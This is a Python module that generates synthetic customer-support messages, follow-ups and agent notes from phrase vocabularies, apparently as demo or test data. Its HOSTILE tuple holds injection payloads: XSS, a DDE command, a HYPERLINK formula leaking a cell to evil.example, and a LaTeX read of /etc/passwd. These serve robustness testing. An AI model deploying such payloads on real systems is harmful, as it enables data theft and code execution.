"""How do the people of the invented desk put it into words?

A grammar over small vocabularies: a greeting, an opener, the problem, a detail, a wish, a signature; now and then a typo, a quoted line,
personal data or something hostile. Rows only ever pick from a vocabulary, so hundreds of thousands of texts take about a second.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from functools import lru_cache
from typing import Self

import numpy as np
import numpy.typing as npt
import polars as pl

from fcrlib.intake.demo.canaries import confessions, names
from fcrlib.intake.demo.themes import CATEGORIES, FOREIGN, SLOTS, THEMES

Ints = npt.NDArray[np.int64]

GREETINGS = ("Hi,", "Hello,", "Hello support team,", "Good morning,", "Hi there,", "Dear support,", "To whom it may concern,", "Hey,", "Hi team,")
OPENERS = (
    "", "", "I have a question: ", "Just so you know, ", "It happened again: ", "Quick one: ", "Could you help, ", "We are stuck: ", "For some days now ",
    "As of today ", "I was told to write to you because ", "Sorry to bother you, but ", "This is urgent: ", "Maybe I overlook something, but ",
)  # fmt: skip
WISHES = (
    "", "", "Please have a look.", "What can we do?", "Thanks for your help.", "Can somebody look into this today?", "Let me know what you need from us.",
    "Please tell me how to go on.", "I would be glad about a quick answer.", "Is this known?", "We depend on it.", "How long will it take?",
)  # fmt: skip
SIGN_OFFS = ("Best regards,", "Kind regards,", "Thanks,", "Many thanks,", "Cheers,", "Regards,", "Thank you,", "Sincerely,", "Best,")
ROLES = ("", "", "", "\nAccounting", "\nHead of Operations", "\nIT department", "\nOffice manager", "\nSent from my phone")
QUOTES = (
    "\n\n> On 3 March 2026, support wrote:\n> Your request was received.\n> We will be back soon.",
    "\n\n> > Did you try another browser?\n> Yes, we did.",
    "\n\n-----Original message-----\nSubject: your request\nPlease do not answer to this mail.",
)
HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "[your invoice](javascript:alert(1))",
    "{{7*7}} ${7*7} {% raw %}",
    "</title></style><svg/onload=alert(1)>",
    "+cmd|' /C calc'!A0",
    "$$\\input{/etc/passwd}$$ ![x](http://evil.example/pixel.png)",
)
TYPOS = {
    "receive": "recieve", "invoice": "invocie", "because": "becuase", "the ": "teh ", "please": "plese", "account": "acount", "again": "agian",
    "which": "wich", "error": "eror", "address": "adress", "tomorrow": "tommorow", "import": "imoprt", "upload": "uplaod", "charged": "chraged",
}  # fmt: skip
FOREIGN_FRAMES = {
    "de": (("Guten Tag,", "Hallo,", "Hallo zusammen,"), ("Bitte um Hilfe.", "Können Sie das prüfen?", "Vielen Dank im Voraus."), "Viele Grüße"),
    "fr": (("Bonjour,", "Bonjour Madame, Monsieur,"), ("Merci de votre aide.", "Pouvez-vous vérifier ?", "C'est urgent."), "Cordialement"),
}

# What customers write when they come back, by what went wrong the first time.
FOLLOW_UPS: Mapping[str, tuple[str, ...]] = {
    "": (
        "Sadly this is still not solved.", "The problem is back.", "It did not help.", "I have to write again.", "Same thing as before.", "Reopening this.",
    ),
    "wrong-routing": (
        "I was sent from one team to the next and nobody felt responsible.", "Three departments later I still have no answer.",
        "Please give this to somebody who knows about it, I was passed around.", "Your colleagues keep forwarding me.",
    ),
    "missing-account-context": (
        "You asked for our account number although it is in my first message.", "Why do you not see our contract on your side?",
        "I sent the account details twice now.", "The answer was for a different account than ours.",
    ),
    "specialist-unavailable": (
        "I was told the expert is on leave and then the case was closed.", "Nobody with the right knowledge was available.",
        "The specialist never got in touch.", "When is the engineer back in the office?",
    ),
    "unclear-guidance": (
        "I followed the steps but I do not understand step {n}.", "The instructions do not match what I see on my screen.",
        "Your explanation is confusing, where is that menu?", "Could you explain it more simply?",
    ),
    "undocumented-bug": (
        "After your fix the same error came back.", "It still fails with the identical message, this must be a bug.",
        "The workaround lasted one day, then it broke again.", "Your update did not change anything, the error is the same.",
    ),
    "knowledge-gap": (
        "The article you sent is out of date, those buttons are gone.", "The help page describes the old version.",
        "Your documentation says nothing about this case.", "The linked guide did not fit our setup.",
    ),
    "tool-limitation": (
        "You said your tools cannot change this, so who can?", "Apparently support cannot see that setting.",
        "I was told the admin console does not allow it.", "Is there really no function for this?",
    ),
    "approval-wait": (
        "You said it had to be approved, has anybody approved it?", "Still waiting for the sign-off of your finance people.",
        "The correction was to be released by a manager, nothing happened.", "How long does an approval take?",
    ),
    "deferred-promise": (
        "You promised to call back and nobody did.", "I was told I would hear from you by {day}.",
        "Still waiting for the promised call.", "You wanted to get back to me.",
    ),
    "handoff-without-context": (
        "I already explained all this to your colleague.", "The new agent started from the beginning again.",
        "Do you not read what I wrote to the other team?", "I have to repeat my story for the third time.",
    ),
    "customer-side": (
        "It turned out that our firewall was part of it, now something else.", "Our own administrator had changed a setting, it is not complete yet.",
        "We had a mistake on our side but it still does not work.", "Our provider fixed their part, please look again.",
    ),
    "non-resolvable": (
        "I understand that you do not offer this, but I need an answer.", "Is there really no way?",
        "Then whom should I turn to?", "That you cannot do it is hard to believe.",
    ),
}  # fmt: skip
AGENT_WORDS: Mapping[str, tuple[str, ...]] = {
    "first": ("Thank you for writing to us, I am looking into it.", "I had a look at your account and see what you mean.", "Thanks for the details, I am checking this now."),
    "kept": ("I am looking into it and will get back to you today.", "I have to ask a colleague and will let you know this afternoon.", "Let me check the logs, I will write to you as soon as I have them."),
    "solution": (
        "This should work now, please try again.", "I have corrected it on our side.", "Please follow these steps: open the settings, choose the entry, save.",
        "The change is live, you will see it after the next login.", "We found the reason and removed it.", "I have sent you the document again.",
        "Here is the article that explains it.", "I reset it for you.", "The setting was off, I switched it on.",
    ),
    "ask": ("Could you send me your account number, please?", "Which account is this about?", "Please tell me the contract number and the user concerned.", "I need your customer number before I can look."),
    "question": ("Does it happen in another browser as well?", "Could you send a screenshot?", "When did it happen for the first time?", "Which version do you use?"),
    "promise": ("I will call you back tomorrow.", "I will get back to you by the end of the week.", "A colleague will call you back on Monday.", "We will let you know as soon as we hear more."),
    "decline": ("I am afraid this is outside of what we can do.", "This is not something support can change, sorry.", "Our product does not offer this."),
    "duplicate": ("We answer this in your other request.", "This is the same as your earlier message, we continue there."),
    "bot": ("I am the assistant. This article may help you.", "Here is what I found. Did this answer your question?", "Please try these steps first."),
    "receipt": ("We have received your request and will be back within one working day.",),
    "outreach": ("We noticed that your plan ends soon and would like to talk to you.", "We are following up on your rollout, how is it going?"),
}  # fmt: skip
NOTES: Mapping[str, tuple[str, ...]] = {
    "": ("Checked the logs.", "Customer is friendly.", "Looked at the account, nothing special.", "Similar to another case."),
    "wrong-routing": ("Not ours, passing on.", "Wrong queue, please take over."),
    "missing-account-context": ("No account linked, cannot see the contract.", "CRM panel is empty for this caller."),
    "specialist-unavailable": ("Needs a specialist, all of them are out.", "Waiting for the engineer on duty."),
    "unclear-guidance": ("Sent the standard steps.", "Used the macro."),
    "undocumented-bug": ("Reproduced, raised with engineering.", "Looks like a defect in the last release."),
    "knowledge-gap": ("No article about this.", "The article is older than the release."),
    "tool-limitation": ("Admin tool cannot do this, needs a database change.", "No permission in the console to fix it."),
    "approval-wait": ("Waiting for approval by finance.", "Needs sign-off, asked the approvals team."),
    "deferred-promise": ("Told the customer we call back.", "Call-back promised."),
    "handoff-without-context": ("Handed over, see history.", "Took over, no summary there."),
    "customer-side": ("Cause is in the customer's network.", "Customer's administrator has to act."),
    "non-resolvable": ("Out of scope.", "Not offered, explained it."),
}
THANKS = (
    "Thank you!",
    "Great, thanks a lot.",
    "Works now, thanks!",
    "Perfect, thank you.",
    "Thanks for the quick help.",
    "Super, danke!",
    "Merci beaucoup.",
)
REPLIES = (
    "Yes, in all of them.",
    "The number is {order}.",
    "Here it is, see attachment.",
    "Since {month}, I think.",
    "Please find it below.",
    "No, nothing like that.",
)
REMARKS = {
    "good": ("Quick and friendly.", "Solved at once, great.", "Very helpful.", "All good.", "The agent knew exactly what to do."),
    "bad": ("Still not solved.", "I had to ask again.", "Took far too long.", "Nobody felt responsible.", "The answer did not fit my question."),
}


@dataclass(frozen=True, slots=True)
class Vocabulary:
    """Phrases by group, flat: group g holds `text[first[g] : first[g] + count[g]]`."""

    text: pl.Series
    first: Ints
    count: Ints

    @classmethod
    def of(cls, groups: Sequence[Sequence[str]]) -> Self:
        """Build it, spelling out the slots of every phrase."""
        spelled = [[words for phrase in group for words in spell_out(phrase)] for group in groups]
        count = np.array([len(group) for group in spelled])
        return cls(pl.Series([words for group in spelled for words in group]), np.cumsum(count) - count, count)

    def pick(self, group: Ints, rng: np.random.Generator) -> pl.Series:
        """One phrase of the given group for each row."""
        return self.text.gather(self.first[group] + (rng.random(len(group)) * self.count[group]).astype(np.int64))


def spell_out(phrase: str) -> list[str]:
    """Fill the `{slots}` of a phrase, in as many ways as a slot has values.

    Examples
    --------
    >>> spell_out("invoice {order} of {month}")[:2]
    ['invoice 2025-004417 of March', 'invoice A-99213 of May']
    """
    used = [slot for slot in SLOTS if "{" + slot + "}" in phrase]
    if not used:
        return [phrase]
    return [
        phrase.format(**{slot: SLOTS[slot][(way + shift) % len(SLOTS[slot])] for shift, slot in enumerate(sorted(used, reverse=True))})
        for way in range(len(SLOTS[used[0]]))
    ]


def chosen(words: Sequence[str], rows: int, rng: np.random.Generator) -> pl.Series:
    """One of the words for each row."""
    vocabulary = Vocabulary.of([words])
    return vocabulary.pick(np.zeros(rows, dtype=np.int64), rng)


@lru_cache(maxsize=1)
def _themes() -> dict[str, Vocabulary]:
    return {part: Vocabulary.of([getattr(theme, part) for theme in THEMES]) for part in ("subjects", "problems", "details")}


@lru_cache(maxsize=4)
def _foreign(language: str) -> Vocabulary:
    return Vocabulary.of([FOREIGN[language][category] for category in CATEGORIES])


def openings(theme: Ints, category: Ints, *, language: pl.Series, channel: pl.Series, rng: np.random.Generator) -> pl.DataFrame:
    """Write subject and body of each contact.

    Returns
    -------
    DataFrame
        `subject`, `body`, in the order of the rows.
    """
    rows, words = len(theme), _themes()
    parts = pl.DataFrame(
        {
            "language": language.cast(pl.String),
            "channel": channel.cast(pl.String),
            "subject": words["subjects"].pick(theme, rng),
            "problem": words["problems"].pick(theme, rng),
            "detail": words["details"].pick(theme, rng),
            "greeting": chosen(GREETINGS, rows, rng),
            "opener": chosen(OPENERS, rows, rng),
            "wish": chosen(WISHES, rows, rng),
            "signature": _signatures(rows, rng),
            "extra": _extras(rows, rng),
            "quote": chosen(QUOTES, rows, rng),
            "luck": rng.random(rows),
            "typo": rng.random(rows),
            "de": _foreign_letters("de", category, rng),
            "fr": _foreign_letters("fr", category, rng),
        }
    )
    return parts.select(_subject().alias("subject"), _body().alias("body"))


def complaints(mechanism: Sequence[str], which: Ints, *, rng: np.random.Generator) -> pl.Series:
    """Write what a customer says first when coming back; `which` picks from `mechanism`, and the empty one is a plain complaint."""
    return Vocabulary.of([FOLLOW_UPS[name] for name in mechanism]).pick(which, rng)


def follow_ups(mechanism: Sequence[str], which: Ints, *, theme: Ints, rng: np.random.Generator) -> pl.Series:
    """Write what a customer says to reopen a contact: what went wrong, then the problem once more in half of them."""
    complaint = complaints(mechanism, which, rng=rng)
    problem = _themes()["problems"].pick(theme, rng)
    frame = pl.DataFrame({"complaint": complaint, "problem": problem, "luck": rng.random(len(which))})
    again = pl.concat_str(["complaint", pl.lit(" To repeat it: "), "problem", pl.lit(".")])
    return frame.select(pl.when(pl.col("luck") < 0.5).then(again).otherwise("complaint").alias("text"))["text"]


def greeted(words: pl.Series, rng: np.random.Generator) -> pl.Series:
    """Put a greeting by name before what an agent writes, and the agent's name below, in a third of the rows."""
    rows = len(words)
    frame = pl.DataFrame({"words": words, "to": _names(rows, rng), "by": _names(rows, rng), "luck": rng.random(rows)})
    letter = pl.concat_str([pl.lit("Hi "), "to", pl.lit(",\n\n"), "words", pl.lit("\n\nBest regards,\n"), "by"])
    return frame.select(pl.when(pl.col("luck") < 0.33).then(letter).otherwise("words").alias("text"))["text"]


def _subject() -> pl.Expr:
    spoken = pl.col("channel").is_in(["phone", "chat", "messaging", "social"])
    plain = pl.when(spoken).then(pl.concat_str([pl.col("channel").str.to_titlecase(), pl.lit(" contact")])).otherwise("subject")
    return pl.when(pl.col("luck") < 0.03).then(plain.str.to_uppercase()).when(pl.col("luck") > 0.95).then(pl.lit("Re: ") + plain).otherwise(plain)


def _body() -> pl.Expr:
    core = pl.concat_str(["opener", "problem", pl.lit(". "), "detail", pl.lit(" "), "wish"])
    letter = pl.concat_str(["greeting", pl.lit("\n\n"), core, "extra", "signature"])
    quoted = pl.when(pl.col("luck").is_between(0.5, 0.56)).then(pl.concat_str([letter, "quote"])).otherwise(letter)
    short = pl.concat_str(["problem", pl.lit(". "), "detail", "extra"])
    call = pl.concat_str([pl.lit("Caller says: "), "problem", pl.lit(". "), "detail", "extra"])
    english = (
        pl.when(pl.col("channel") == "phone").then(call).when(pl.col("channel").is_in(["chat", "messaging", "social"])).then(short).otherwise(quoted)
    )
    misspelt = pl.when(pl.col("typo") < 0.12).then(english.str.replace_many(TYPOS)).otherwise(english)
    return pl.when(pl.col("language") == "de").then("de").when(pl.col("language") == "fr").then("fr").otherwise(misspelt)


def _foreign_letters(language: str, category: Ints, rng: np.random.Generator) -> pl.Series:
    greetings, wishes, sign_off = FOREIGN_FRAMES[language]
    rows = len(category)
    parts = {
        "hi": chosen(greetings, rows, rng),
        "problem": _foreign(language).pick(category, rng),
        "wish": chosen(wishes, rows, rng),
        "who": _names(rows, rng),
    }
    letter = pl.concat_str(["hi", pl.lit("\n\n"), "problem", pl.lit(". "), "wish", pl.lit(f"\n\n{sign_off}\n"), "who"])
    return pl.DataFrame(parts).select(letter.alias("text"))["text"]


def _signatures(rows: int, rng: np.random.Generator) -> pl.Series:
    frame = pl.DataFrame({"off": chosen(SIGN_OFFS, rows, rng), "who": _names(rows, rng), "role": chosen(ROLES, rows, rng), "luck": rng.random(rows)})
    signed = pl.concat_str([pl.lit("\n\n"), "off", pl.lit("\n"), "who", "role"])
    return frame.select(pl.when(pl.col("luck") < 0.55).then(signed).otherwise(pl.lit("")).alias("text"))["text"]


def _extras(rows: int, rng: np.random.Generator) -> pl.Series:
    """Personal data in 9 % of the texts, something hostile in 0.3 %."""
    secret = confessions().gather((rng.random(rows) * len(confessions())).astype(np.int64))
    frame = pl.DataFrame({"secret": secret, "hostile": chosen(HOSTILE, rows, rng), "luck": rng.random(rows)})
    spaced = pl.when(pl.col("luck") < 0.09).then(pl.lit(" ") + pl.col("secret")).when(pl.col("luck") > 0.997).then(pl.lit(" ") + pl.col("hostile"))
    return frame.select(spaced.otherwise(pl.lit("")).alias("text"))["text"]


def _names(rows: int, rng: np.random.Generator) -> pl.Series:
    return names().gather(rng.integers(0, len(names()), rows))
